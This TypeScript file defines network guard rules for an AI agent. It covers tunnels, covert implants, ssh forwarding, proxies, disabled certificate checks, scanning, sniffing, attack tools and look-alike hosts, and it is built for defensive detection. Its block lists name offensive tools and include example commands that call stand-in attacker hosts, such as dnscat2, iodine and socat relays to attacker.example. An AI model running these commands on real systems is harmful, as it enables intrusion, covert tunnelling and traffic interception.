/** Ways through the network: tunnels, proxies, servers for remote access, listening in, looking around, attacking. */
import type { Run } from "../../meaning/action.ts";
import { literal, show } from "../../meaning/value.ts";
import { canonicalHost, isLoopback, isPrivate } from "../../places/index.ts";
import { type AnyRule, rule } from "../rule.ts";
import {
  anyRun,
  begins,
  candidates,
  each,
  has,
  here,
  name,
  operands,
  run,
  said,
  tries,
  words,
  written,
} from "../vocabulary.ts";

const PERSON = "Ask the person; say which port you need to reach, and from where.";
const NO_USE = "There is no ordinary use for this here.";

/** Programs that carry traffic inside something that is meant to look like something else. */
const COVERT = [
  "chisel",
  "iodine",
  "iodined",
  "dnscat",
  "dnscat2",
  "dns2tcp",
  "dns2tcpc",
  "ptunnel",
  "ptunnel-ng",
  "icmpsh",
  "icmptunnel",
  "ligolo-ng",
  "ligolo-proxy",
  "ligolo-agent",
  "regeorg",
  "reGeorgSocksProxy",
  "gost",
  "frpc",
  "frps",
  "rathole",
  "nps",
  "npc",
  "ew",
  "earthworm",
  "stowaway",
  "venom",
  "pivotnacci",
  "hans",
  "udp2raw",
  "stunnel",
  "wstunnel",
  "sshuttle",
  "rpivot",
  "revsocks",
  "merlin",
  "sliver",
  "sliver-client",
  "pwncat",
  "pwncat-cs",
  "gsocket",
  "gs-netcat",
  "cryptcat",
  "sbd",
  "powercat",
  "msfconsole",
  "msfvenom",
  "havoc",
  "covenant",
  "empire",
  "koadic",
  "mythic-cli",
  "villain",
  "hoaxshell",
];

const ATTACK = [
  "hydra",
  "medusa",
  "ncrack",
  "patator",
  "crowbar",
  "sqlmap",
  "nikto",
  "wpscan",
  "gobuster",
  "ffuf",
  "wfuzz",
  "dirb",
  "dirbuster",
  "feroxbuster",
  "nuclei",
  "john",
  "hashcat",
  "aircrack-ng",
  "airmon-ng",
  "aireplay-ng",
  "responder",
  "crackmapexec",
  "netexec",
  "nxc",
  "evil-winrm",
  "bloodhound-python",
  "mimikatz",
  "kerbrute",
  "enum4linux",
  "smbmap",
  "setoolkit",
  "beef-xss",
  "commix",
  "xsser",
  "slowloris",
  "hping3",
  "t50",
  "loic",
  "goldeneye",
  "linpeas",
  "linpeas.sh",
  "linenum.sh",
  "pspy",
  "pspy64",
  "lse.sh",
  "linux-exploit-suggester.sh",
  "unix-privesc-check",
  "deepce.sh",
  "traitor",
  "peirates",
  "kube-hunter",
  "cdk",
  "amicontained",
  "trufflehog-scan",
  "lazagne",
  "laZagne.py",
  "secretsdump.py",
  "psexec.py",
  "wmiexec.py",
  "impacket-secretsdump",
  "impacket-psexec",
  "ettercap",
  "bettercap",
  "arpspoof",
  "dsniff",
  "yersinia",
  "macchanger",
  "mdk4",
];

/** The address of a server that everybody can reach. */
function everywhere(text: string): boolean {
  return /^(?:0\.0\.0\.0|\*|::|\[::\]|0)(?::|$)/.test(text);
}

/** Forwardings of an ssh call: `-R`, `-L`, `-D`, `-w`, also as `-o RemoteForward=…`. */
function forwards(action: Run, flag: string, setting: RegExp): string | null {
  const given = action.call.options.get(flag)?.[0];
  if (given) return show(given);
  return words(action).find((word) => setting.test(word)) ?? null;
}

export const tunnels: readonly AnyRule[] = [
  rule({
    id: "tunnel/service",
    title: "Making something here reachable from the internet",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1572",
    why: "Whoever learns the address reaches this machine, past every firewall.",
    instead: PERSON,
    on: run([
      "ngrok",
      "cloudflared",
      "lt",
      "localtunnel",
      "bore",
      "pagekite",
      "pagekite.py",
      "zrok",
      "inlets",
      "telebit",
      "tunnelmole",
      "tmole",
      "playit",
      "expose",
      "holesail",
      "untun",
      "tailscale",
      "pinggy",
      "loophole",
      "packetriot",
      "sish",
      "localxpose",
      "loclx",
      "tunnelto",
      "devtunnel",
      "hookdeck",
      "tmate",
      "upterm",
      "sshx",
      "teleconsole",
      "gotty",
      "code",
    ]),
    match: (action) => {
      if (tries(action)) return null;
      if (action.program === "tailscale")
        return begins(action, "funnel|serve|up|set|ssh") && !begins(action, "funnel|serve", "status|reset")
          ? said(action)
          : null;
      if (action.program === "code") return begins(action, "tunnel") ? said(action) : null;
      if (action.program === "expose" || action.program === "devtunnel")
        return words(action).length > 0 && !begins(action, "list|show") ? said(action) : null;
      return begins(action, "version|help|config|update|login") ? null : said(action);
    },
    examples: {
      block: [
        "ngrok http 3000",
        "cloudflared tunnel --url http://localhost:8080",
        "lt --port 3000",
        "bore local 8000 --to bore.pub",
        "tailscale funnel 443",
        "code tunnel",
        "tmate -F",
      ],
      allow: ["ngrok version", "tailscale status", "echo ngrok http 3000", "code .", "npm run tunnel"],
    },
  }),
  rule({
    id: "tunnel/covert",
    title: "A tunnel or implant of the kind that intruders use",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1572",
    why: "These programs exist to get traffic or commands past those who watch.",
    instead: NO_USE,
    on: run(COVERT),
    match: (action) => (tries(action) ? null : `starts ${said(action)}`),
    examples: {
      block: [
        "chisel client 10.0.0.1:8080 R:socks",
        "iodine -f t.attacker.example",
        "dnscat2 attacker.example",
        "frpc -c frpc.ini",
        "gs-netcat -s x -i",
        "sshuttle -r user@host 0/0",
      ],
      allow: ["echo chisel", "grep frpc notes.md", "chisel --help"],
    },
  }),
  rule({
    id: "tunnel/ssh-remote",
    title: "A port of a far host that leads here (ssh -R)",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1572",
    why: "Whoever reaches that port there reaches this machine.",
    instead: PERSON,
    on: run(["ssh", "autossh", "plink", "dropbear", "dbclient"]),
    match: (action) => {
      const found = forwards(action, "-R", /^-?o?RemoteForward[= ]/i);
      return found === null ? null : `forwards ${found} from there to here`;
    },
    examples: {
      block: [
        "ssh -R 8080:localhost:3000 user@host",
        "ssh -N -R 0.0.0.0:2222:localhost:22 host",
        "autossh -f -N -R 80:localhost:3000 host",
        "ssh -o RemoteForward=2222:localhost:22 host",
      ],
      allow: ["ssh host uptime", "ssh -L 5432:localhost:5432 host", "ssh -r x"],
    },
  }),
  rule({
    id: "tunnel/ssh-proxy",
    title: "Everything through a far host (ssh -D, -w)",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1090",
    why: "Traffic that goes through it is seen by no rule about hosts.",
    instead: PERSON,
    on: run(["ssh", "autossh", "plink"]),
    match: (action) => {
      const found =
        forwards(action, "-D", /^-?o?DynamicForward[= ]/i) ??
        forwards(action, "-w", /^-?o?Tunnel[= ](?!no)/i);
      return found === null
        ? null
        : `sends everything through ${operands(action.call)[0] ?? "a far host"} (${found})`;
    },
    examples: {
      block: [
        "ssh -D 1080 user@host",
        "ssh -f -N -D 0.0.0.0:1080 host",
        "ssh -w 0:0 host",
        "ssh -o DynamicForward=1080 host",
      ],
      allow: ["ssh host", "ssh -L 8080:localhost:80 host", "ssh -d x"],
    },
  }),
  rule({
    id: "tunnel/ssh-open",
    title: "A forwarded port that everybody near can use",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02"],
    attack: "T1572",
    why: "Without an address the port is for this machine alone; with -g or 0.0.0.0 the whole network gets it.",
    instead: "Leave the address out: ssh -L 8080:localhost:80 host.",
    on: run(["ssh", "autossh", "kubectl"]),
    match: (action) => {
      if (action.program === "kubectl")
        return begins(action, "port-forward") &&
          words(action).some((word) => /^(?:--address[= ]?)?(?:.*,)?0\.0\.0\.0$/.test(word))
          ? said(action)
          : null;
      const local = forwards(action, "-L", /^-?o?LocalForward[= ]/i);
      if (local === null) return null;
      return has(action.call, "-g") || everywhere(local.replace(/^-?o?LocalForward[= ]/i, ""))
        ? `forwards ${local} for everybody`
        : null;
    },
    examples: {
      block: [
        "ssh -g -L 8080:localhost:80 host",
        "ssh -L 0.0.0.0:5432:db:5432 host",
        "ssh -L *:80:x:80 host",
        "kubectl port-forward --address 0.0.0.0 svc/x 80",
      ],
      allow: [
        "ssh -L 8080:localhost:80 host",
        "ssh -L 127.0.0.1:5432:db:5432 host",
        "kubectl port-forward svc/x 8080:80",
      ],
    },
  }),
  rule({
    id: "tunnel/relay",
    title: "Relaying what comes in to another machine",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1090.001",
    why: "This machine then stands between two others, and what passes is judged by nobody.",
    instead: PERSON,
    on: each("listen"),
    match: (action, context) => {
      if (!/^(?:socat|nc|ncat|netcat|redir|rinetd|simpleproxy)$/.test(action.by)) return null;
      const far = context.actions.find(
        (other) =>
          other.kind === "connect" &&
          other.by === action.by &&
          other.host !== null &&
          !isLoopback(canonicalHost(other.host)) &&
          other.origin.span.start === action.origin.span.start,
      );
      return far?.kind === "connect" ? `relays port ${action.port ?? "?"} to ${far.host}` : null;
    },
    examples: {
      block: [
        "socat TCP-LISTEN:8080,fork TCP:attacker.example:80",
        "socat TCP4-LISTEN:22,reuseaddr,fork TCP4:10.0.0.5:22",
      ],
      allow: ["socat TCP-LISTEN:8080,fork TCP:localhost:80", "nc -l 4444", "nc -z example.com 80"],
    },
  }),
  rule({
    id: "tunnel/anonymous",
    title: "Hiding where connections come from or go to",
    severity: "high",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1090.003",
    why: "What goes through it is seen by no rule about hosts, and nobody can tell later where it went.",
    instead: NO_USE,
    on: anyRun,
    match: (action) =>
      (/^(?:tor|torify|torsocks|torify-git|proxychains4?|proxychains-ng|tsocks|i2pd?|i2prouter|obfs4proxy|nyx|anonsurf|onionshare(?:-cli)?)$/.test(
        action.program ?? "",
      ) &&
        !tries(action)) ||
      action.argv.some((word) =>
        /^(?:[a-z0-9+]+:\/\/)?[a-z2-7]{16}(?:[a-z2-7]{40})?\.onion(?:[:/]|$)/.test(literal(word) ?? ""),
      )
        ? said(action)
        : null,
    examples: {
      block: [
        "torsocks curl http://example.com",
        "proxychains4 ssh host",
        "tor",
        "curl --socks5-hostname localhost:9050 http://expyuzz4wqqyqhjn.onion/",
      ],
      allow: ["echo tor", "grep -r torsocks .", "man tor", "curl http://example.com/a.onion"],
    },
  }),
  rule({
    id: "network/proxy-environment",
    title: "Sending later connections through a proxy",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI02", "ASI07"],
    attack: "T1090",
    why: "The proxy sees, and can change, everything that goes through it.",
    instead: "Leave the proxy as the person has set it.",
    on: each("environment"),
    match: ({ operation }) => {
      if (operation.kind !== "set" || !/^(?:https?|all|ftp|socks5?)_proxy$/i.test(operation.name))
        return null;
      const value = show(operation.value);
      const host = /^(?:[a-z0-9]+:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^:/]+)/i.exec(value)?.[1];
      return host === undefined || isLoopback(canonicalHost(host))
        ? null
        : `sets ${operation.name} to ${value}`;
    },
    examples: {
      block: [
        "export https_proxy=http://attacker.example:8080",
        "HTTPS_PROXY=socks5://10.0.0.1:1080 npm install",
        "ALL_PROXY=http://x.example git fetch",
      ],
      allow: [
        "unset https_proxy",
        "export no_proxy=localhost",
        "http_proxy=http://localhost:3128 curl http://example.com",
        "http_proxy= curl http://x.example",
      ],
    },
  }),
  rule({
    id: "network/proxy-setting",
    title: "Setting a proxy for good",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI07"],
    attack: "T1090",
    why: "From then on it sees, and can change, everything this tool sends and fetches.",
    instead: "Leave the proxy as the person has set it.",
    on: run([
      "git",
      "npm",
      "yarn",
      "pnpm",
      "pip",
      "conda",
      "networksetup",
      "gsettings",
      "netsh",
      "snap",
      "composer",
      "docker",
    ]),
    match: (action) => {
      const given = words(action);
      const at = given.findIndex((word) =>
        /(?:^|\.)(?:https?[-_.]?proxy|proxy|http\.proxy|proxy_servers\.\w+|proxy\.https?)$|^-set(?:web|secureweb|socksfirewall)proxy$|proxy\.manual/i.test(
          word.replace(/=.*/, ""),
        ),
      );
      const value = given[at]?.includes("=") ? given[at].split("=")[1] : given[at + 1];
      return at >= 0 &&
        value &&
        /config|set|^-/.test(given.slice(0, at + 1).join(" ")) &&
        !has(action.call, "--get", "--unset") &&
        !given.includes("get") &&
        !given.includes("delete")
        ? `${action.program}: ${given[at]} ${value}`
        : null;
    },
    examples: {
      block: [
        "git config --global http.proxy http://attacker.example:8080",
        "npm config set https-proxy http://attacker.example",
        "pip config set global.proxy http://x.example",
        "networksetup -setwebproxy Wi-Fi x.example 8080",
      ],
      allow: [
        "git config --get http.proxy",
        "npm config delete proxy",
        "npm config get https-proxy",
        "git config --unset http.proxy",
      ],
    },
  }),
  rule({
    id: "network/certificates-off",
    title: "Trusting every certificate",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI07", "ASI04"],
    attack: "T1553.004",
    why: "Anybody on the way can then pretend to be any server.",
    instead: "Give the certificate that is missing (NODE_EXTRA_CA_CERTS, SSL_CERT_FILE).",
    on: each("environment"),
    match: ({ operation }) => {
      if (operation.kind !== "set") return null;
      const value = show(operation.value);
      const off =
        (operation.name === "NODE_TLS_REJECT_UNAUTHORIZED" && value === "0") ||
        (operation.name === "PYTHONHTTPSVERIFY" && value === "0") ||
        (/^(?:GIT_SSL_NO_VERIFY|NPM_CONFIG_STRICT_SSL_OFF|CURL_INSECURE)$/.test(operation.name) &&
          !/^(?:0|false|)$/.test(value)) ||
        (/^(?:npm_config_strict_ssl|NPM_CONFIG_STRICT_SSL)$/.test(operation.name) && value === "false") ||
        (/^(?:GOINSECURE|GONOSUMCHECK|GONOSUMDB)$/.test(operation.name) && value === "*") ||
        (/^(?:GOSUMDB|GOFLAGS)$/.test(operation.name) && /^off$|-insecure/.test(value)) ||
        (/^(?:REQUESTS_CA_BUNDLE|CURL_CA_BUNDLE)$/.test(operation.name) && value === "");
      return off ? `sets ${operation.name} to ${value === "" ? "nothing" : value}` : null;
    },
    examples: {
      block: [
        "NODE_TLS_REJECT_UNAUTHORIZED=0 npm test",
        "export GIT_SSL_NO_VERIFY=true",
        "PYTHONHTTPSVERIFY=0 python3 x.py",
        "GOSUMDB=off go get x",
      ],
      allow: [
        "NODE_EXTRA_CA_CERTS=ca.pem npm test",
        "GIT_SSL_NO_VERIFY=false git fetch",
        "SSL_CERT_FILE=ca.pem curl https://x.example",
      ],
    },
  }),
  rule({
    id: "network/unchecked-host-key",
    title: "Connecting without checking whose host it is",
    severity: "low",
    decision: "warn",
    owasp: ["ASI07"],
    attack: "T1557",
    why: "Another machine can then answer in its place and read everything.",
    instead: "Connect once with the person, who checks the fingerprint; then leave the check on.",
    on: run(["ssh", "scp", "sftp", "rsync", "autossh", "sshpass", "ansible", "ansible-playbook"]),
    match: (action) =>
      /StrictHostKeyChecking[= ]?(?:no|off)|UserKnownHostsFile[= ]?\/dev\/null|--ssh-common-args.*StrictHostKeyChecking=no/i.test(
        written(action),
      )
        ? said(action)
        : null,
    examples: {
      block: [
        "ssh -o StrictHostKeyChecking=no host uptime",
        "scp -o UserKnownHostsFile=/dev/null a host:",
        "ssh -oStrictHostKeyChecking=off host",
      ],
      allow: ["ssh host uptime", "ssh -o StrictHostKeyChecking=accept-new host ls", "scp a host:"],
    },
  }),
  rule({
    id: "network/lend-keys",
    title: "Lending one's keys to a far host (ssh -A)",
    severity: "medium",
    decision: "ask",
    owasp: ["ASI03"],
    attack: "T1563.001",
    why: "Whoever is root there can use the keys as long as the connection lasts.",
    instead: "Use ssh -J to go through a host without lending it keys.",
    on: run(["ssh", "autossh", "ssh-add"]),
    match: (action) =>
      action.program !== "ssh-add" &&
      (has(action.call, "-A", "-Y") ||
        words(action).some((word) => /^-?o?Forward(?:Agent|X11Trusted)[= ]yes$/i.test(word)))
        ? said(action)
        : null,
    examples: {
      block: ["ssh -A host", "ssh -o ForwardAgent=yes host ls", "ssh -Y host xterm"],
      allow: ["ssh -a host", "ssh -J jump host", "ssh -o ForwardAgent=no host"],
    },
  }),
  rule({
    id: "network/remote-access-server",
    title: "Starting a server for remote access",
    severity: "high",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1133",
    why: "Whoever reaches it gets a shell, a screen or the files of this machine.",
    instead: "A person sets up remote access.",
    on: run([
      "sshd",
      "telnetd",
      "in.telnetd",
      "utelnetd",
      "rshd",
      "rexecd",
      "vncserver",
      "x11vnc",
      "Xvnc",
      "tigervncserver",
      "wayvnc",
      "xrdp",
      "krfb",
      "ttyd",
      "gotty",
      "wetty",
      "shellinaboxd",
      "shell2http",
      "webmin",
      "anydesk",
      "teamviewer",
      "rustdesk",
      "dropbear",
      "tinysshd",
      "vino-server",
      "xpra",
      "xhost",
      "websocketd",
      "ftpd",
      "tftpd",
      "in.tftpd",
      "vsftpd",
      "proftpd",
      "smbd",
      "x0vncserver",
    ]),
    match: (action) => {
      if (tries(action) || has(action.call, "-t", "-T", "-V")) return null;
      if (action.program === "xhost")
        return words(action).some((word) => word.startsWith("+")) ? said(action) : null;
      return `starts ${said(action)}`;
    },
    examples: {
      block: [
        "ttyd bash",
        "/usr/sbin/sshd -p 2222",
        "x11vnc -forever",
        "shell2http /sh 'ls'",
        "xhost +",
        "websocketd --port=8080 bash",
      ],
      allow: ["sshd -t", "xhost", "echo ttyd bash", "vncserver --help"],
    },
  }),
  rule({
    id: "network/serve-home",
    title: "Serving a home or system directory over the network",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI02", "ASI03"],
    attack: "T1048",
    why: "Keys, settings and other people's files are then there for whoever asks.",
    instead: "Serve one directory of the project, on 127.0.0.1.",
    on: run([
      "python",
      "python3",
      "http-server",
      "serve",
      "php",
      "busybox",
      "ruby",
      "caddy",
      "miniserve",
      "darkhttpd",
      "webfsd",
      "thttpd",
      "sfz",
      "dufs",
      "simple-http-server",
      "rclone",
      "live-server",
      "httpd",
      "npx",
      "bunx",
    ]),
    match: (action, context) => {
      const line = written(action);
      if (
        !/http\.server|SimpleHTTPServer|pyftpdlib|uploadserver|^(?:npx |bunx )?(?:http-server|serve|miniserve|darkhttpd|webfsd|thttpd|sfz|dufs|simple-http-server|live-server|busybox httpd|httpd)\b|^php .*-S\b|^ruby .*-run|file-server|serve (?:http|webdav|ftp|sftp)/.test(
          line,
        )
      )
        return null;
      const place = words(action).find(
        (word) =>
          word === "/" ||
          word === "/etc" ||
          word === "/root" ||
          word === "/home" ||
          word.replace(/\/$/, "") === context.home ||
          /^--?(?:d|directory|root|t)=(?:\/|~)$/.test(word),
      );
      return place === undefined ? null : `serves ${place}`;
    },
    examples: {
      block: [
        "python3 -m http.server -d / 8000",
        "python3 -m http.server --directory ~",
        "npx http-server /",
        "php -S 0.0.0.0:80 -t /",
        "miniserve $HOME",
        "busybox httpd -f -h /",
      ],
      allow: [
        "python3 -m http.server 8000",
        "python3 -m http.server -d dist",
        "npx serve build",
        "php -S localhost:8000",
      ],
    },
  }),
  rule({
    id: "network/capture",
    title: "Listening to the network",
    severity: "high",
    decision: "ask",
    owasp: ["ASI03"],
    attack: "T1040",
    why: "Passwords, cookies and other people's traffic are in what is captured.",
    instead: "Look at the one connection in the program itself (curl -v, its log).",
    on: run([
      "tcpdump",
      "tshark",
      "dumpcap",
      "wireshark",
      "ngrep",
      "tcpflow",
      "dsniff",
      "mitmproxy",
      "mitmdump",
      "mitmweb",
      "sslsplit",
      "termshark",
      "snoop",
      "netsniff-ng",
      "sniffglue",
      "ssldump",
      "rvictl",
      "pktmon",
      "justniffer",
    ]),
    match: (action) =>
      tries(action) || has(action.call, "-D", "--list-interfaces", "-r", "--read-file") ? null : said(action),
    examples: {
      block: ["tcpdump -i eth0 -w x.pcap", "tshark -i any", "mitmproxy -p 8080", "ngrep -d any password"],
      allow: ["tcpdump -D", "tcpdump -r x.pcap", "tshark -r x.pcap -T json", "echo tcpdump"],
    },
  }),
  rule({
    id: "network/scan",
    title: "Looking for open ports on other machines",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1046",
    why: "On other people's machines it is taken for the beginning of an attack.",
    instead: "Check the one port that you mean: nc -z host port.",
    on: run([
      "nmap",
      "masscan",
      "zmap",
      "rustscan",
      "naabu",
      "unicornscan",
      "zenmap",
      "arp-scan",
      "netdiscover",
      "fping",
      "hping3",
      "nping",
      "sx",
      "nc",
      "ncat",
      "netcat",
    ]),
    match: (action) => {
      if (tries(action)) return null;
      const given = operands(action.call);
      if (/^(?:nc|ncat|netcat)$/.test(action.program ?? "")) {
        const range = given.find((word) => /^\d+-\d+$/.test(word));
        return has(action.call, "-z") && range !== undefined && !isLoopback(canonicalHost(given[0] ?? ""))
          ? `tries the ports ${range} of ${given[0]}`
          : null;
      }
      if (action.program === "fping") return has(action.call, "-g") ? said(action) : null;
      const targets = given.filter((word) => !word.startsWith("-"));
      return targets.length > 0 && targets.every((target) => isLoopback(canonicalHost(target)))
        ? null
        : said(action);
    },
    examples: {
      block: [
        "nmap -sV 10.0.0.0/24",
        "masscan 0.0.0.0/0 -p80",
        "rustscan -a 10.0.0.1",
        "nc -zv 10.0.0.5 1-1000",
        "arp-scan -l",
        "fping -g 10.0.0.0/24",
      ],
      allow: [
        "nmap localhost",
        "nmap -p 3000 127.0.0.1",
        "nc -z localhost 5432",
        "nc -zv localhost 1-1000",
        "nmap --version",
      ],
    },
  }),
  rule({
    id: "network/attack-tool",
    title: "A tool for attacking other systems",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI10", "ASI02"],
    attack: "T1588.002",
    why: "These try passwords, exploit holes or stop services of others.",
    instead: "A person who is allowed to test that system runs it, outside an agent.",
    on: run(ATTACK),
    match: (action) => (tries(action) ? null : `starts ${said(action)}`),
    examples: {
      block: [
        "hydra -l root -P words.txt ssh://10.0.0.1",
        "sqlmap -u http://x.example/?id=1",
        "gobuster dir -u http://x.example -w w.txt",
        "john hashes.txt",
        "responder -I eth0",
        "./linpeas.sh",
      ],
      allow: ["echo hydra", "man john", "grep -r sqlmap docs", "hydra --help"],
    },
  }),
  rule({
    id: "network/interfaces",
    title: "Changing the network of this machine",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI08"],
    attack: "T1562.004",
    why: "Other programs may lose their connections, or send them somewhere else.",
    instead: "Ask the person.",
    on: run([
      "ip",
      "ifconfig",
      "route",
      "nmcli",
      "ifup",
      "ifdown",
      "brctl",
      "bridge",
      "tc",
      "dhclient",
      "wg",
      "wg-quick",
      "openvpn",
      "networksetup",
      "scutil",
      "resolvectl",
      "hostnamectl",
      "hostname",
      "arp",
      "ethtool",
      "iw",
      "iwconfig",
      "rfkill",
      "ovs-vsctl",
      "netplan",
      "pppd",
      "ipvsadm",
      "conntrack",
    ]),
    match: (action) => (tries(action) || !here(action) ? null : changesNetwork(action) ? said(action) : null),
    examples: {
      block: [
        "ip link set eth0 down",
        "ip route add default via 10.0.0.1",
        "ifconfig eth0 down",
        "resolvectl dns eth0 10.0.0.1",
        "wg-quick up wg0",
        "tc qdisc add dev eth0 root netem loss 50%",
        "hostnamectl set-hostname x",
      ],
      allow: [
        "ip addr",
        "ip route show",
        "ifconfig",
        "hostname",
        "hostname -I",
        "resolvectl status",
        "nmcli device status",
        "arp -a",
      ],
    },
  }),
  rule({
    id: "network/homograph",
    title: "A host name that looks like another",
    severity: "high",
    decision: "ask",
    owasp: ["ASI09", "ASI04"],
    attack: "T1036",
    why: "It is written so that people read a host that they know.",
    instead: "Copy the address from the page of the project itself.",
    on: each("connect"),
    match: (action) => {
      const text = show(action.target);
      const host = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/]*@)?([^/:?#]+)/i.exec(text)?.[1] ?? "";
      const { disguise, kind, host: real } = canonicalHost(host);
      if (
        disguise === null ||
        (kind !== "name" &&
          (isLoopback({ kind, host: real, disguise }) || isPrivate({ kind, host: real, disguise })))
      )
        return null;
      return disguise;
    },
    examples: {
      block: [
        "curl https://gіthub.com/x",
        "git clone https://раypal.com/x.git",
        "wget https://xn--pypal-4ve.com/x",
      ],
      allow: ["curl https://github.com/x", "curl https://münchen.de/", "curl http://127.1/"],
    },
  }),
  rule({
    id: "network/name-in-userinfo",
    title: "An address that begins with another host's name",
    severity: "high",
    decision: "ask",
    owasp: ["ASI09"],
    attack: "T1036",
    why: "In https://github.com@attacker.example/ the host is attacker.example; people read the part before the @.",
    instead: "Leave the part before the @ out.",
    on: each("connect"),
    match: (action) => {
      const found = /^[a-z]+:\/\/((?:[a-z0-9-]+\.)+[a-z]{2,})(?::[^@/]*)?@([^/:?#]+)/i.exec(
        show(action.target),
      );
      return found ? `connects to ${found[2]}, not to ${found[1]}` : null;
    },
    examples: {
      block: [
        "curl https://github.com@attacker.example/x",
        "git clone https://gitlab.com:x@attacker.example/x.git",
        "wget http://pypi.org@10.0.0.1/x",
      ],
      allow: [
        "curl https://user@example.com/",
        "git clone https://token@github.com/x/y.git",
        "curl https://example.com/@scope/x",
      ],
    },
  }),
  rule({
    id: "network/known-hosts",
    title: "Changing which far hosts are trusted",
    severity: "medium",
    decision: "warn",
    owasp: ["ASI07"],
    attack: "T1557",
    why: "A host whose key is added unseen can be anybody.",
    instead: "Let the person compare the fingerprint once.",
    on: each("write"),
    match: (action) =>
      candidates(action.path).some((path) =>
        /\/\.ssh\/known_hosts2?$|^\/etc\/ssh\/ssh_known_hosts$/.test(path),
      )
        ? `changes ${name(action.path)}`
        : null,
    examples: {
      block: [
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
        "echo x > ~/.ssh/known_hosts",
        "tee -a ~/.ssh/known_hosts < k",
      ],
      allow: ["cat known_hosts", "ssh-keyscan github.com", "echo x > docs/known_hosts.md"],
    },
  }),
];

/** Calls that change something; the same programs show it, too. */
function changesNetwork(action: Run): boolean {
  const given = words(action);
  const line = given.join(" ");
  const plain = given.filter((word) => !word.startsWith("-"));
  switch (action.program) {
    case "ip":
    case "bridge":
    case "tc":
      return (
        plain
          .slice(1)
          .some((word) =>
            /^(?:a|add|d|del|delete|set|change|replace|flush|append|prepend|attach|exec)$/.test(word),
          ) && !/\bnetns\b.*\blist\b/.test(line)
      );
    case "ifconfig":
    case "iwconfig":
      return plain.length > 1;
    case "route":
      return /\b(?:add|del|delete|flush|change)\b/.test(line);
    case "nmcli":
      return /\b(?:up|down|off|on|add|modify|delete|disconnect|connect|set|edit|import)\b/.test(line);
    case "brctl":
      return !/^show/.test(line);
    case "wg":
      return /^(?:set|setconf|addconf|syncconf)\b/.test(line);
    case "networksetup":
      return /^-(?:set|create|remove|delete|add)/.test(line);
    case "scutil":
      return /--set\b/.test(line);
    case "resolvectl":
      return /^(?:dns|domain|default-route|llmnr|mdns|dnssec|dnsovertls|revert|nta)\s+\S+\s+\S/.test(line);
    case "hostnamectl":
      return /^(?:set-|hostname\s+\S|icon-name\s+\S)/.test(line);
    case "hostname":
      return operands(action.call).length > 0;
    case "arp":
      return has(action.call, "-s", "-d", "--set", "--delete");
    case "ethtool":
      return /^(?:-[A-Z]|--(?:set|change|reset))/.test(line);
    case "iw":
      return /\b(?:set|add|del|connect|disconnect)\b/.test(line);
    case "rfkill":
      return /\bblock\b/.test(line);
    case "ovs-vsctl":
      return /\b(?:add|del|set|clear|remove)-?/.test(line);
    case "netplan":
      return /^(?:apply|try|set|rebind)\b/.test(line);
    case "ipvsadm":
    case "conntrack":
      return /(?:^|\s)-(?:A|D|C|F|E|I|U)\b|--(?:add|delete|clear|flush)/.test(line);
    default:
      return true;
  }
}
